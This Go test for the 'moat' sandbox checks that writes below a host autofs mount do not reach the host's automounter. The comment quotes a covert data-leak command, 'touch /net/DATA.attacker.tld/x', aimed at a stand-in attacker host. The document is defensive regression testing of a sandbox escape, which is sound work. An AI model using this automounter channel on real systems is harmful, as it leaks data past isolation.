//go:build linux

package privtests

import (
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/moat-sandbox/moat/internal/testutil"
)

// Found by attack pass 111: in the sandbox an autofs mount of the host is
// an empty read-only directory (TestAutomountNotTriggered), and the plan
// and the audit look up nothing below one (TestAutomountNotTriggeredByAudit),
// but a write the command made there (touch /net/DATA.attacker.tld/x) was
// reported by moat's violation observer, which resolved the path's
// directories as the host sees them, outside the sandbox, as the
// supervisor: the host's automounter was asked for DATA while the
// command ran. This test is the automounter: it must be asked for
// nothing, and the refused writes are still reported.
func TestAutomountNotTriggeredByObserver(t *testing.T) {
	testutil.RequireRoot(t) // mounting autofs takes root
	f := newFixture(t)
	net := filepath.Join(f.root, "net")
	am := testutil.NewAutomounter(t, net)
	script := func(tag string) string {
		return strings.Join([]string{
			"touch " + net + "/" + tag + "-open/x",
			"mkdir " + net + "/" + tag + "-mkdir/x",
			"ln -s /x " + net + "/" + tag + "-link/x",
			"echo > " + net + "/" + tag + "-redir/sub/x",
			"echo done",
		}, "; ") + " 2>&1"
	}
	am.Reset()
	got := f.sandboxedSh(script("exfil-moat"))
	if !strings.Contains(got.out, "done") {
		t.Fatalf("the script did not run (exit %d):\n%s", got.code, got.out)
	}
	time.Sleep(500 * time.Millisecond)
	if asked := am.Asked(); len(asked) > 0 {
		t.Errorf("ESCAPE under moat: the host's automounter was asked for %q, names the command chose:\n%s", asked, got.out)
	}
	// Without moat the same writes ask it (or this test cannot fail).
	am.Reset()
	base := f.exec("/bin/sh", "-c", script("exfil-direct"))
	if !am.WasAsked("exfil-direct-open", 2*time.Second) {
		t.Errorf("without moat a write below the autofs mount asks the automounter (asked %q):\n%s", am.Asked(), base.out)
	}
}
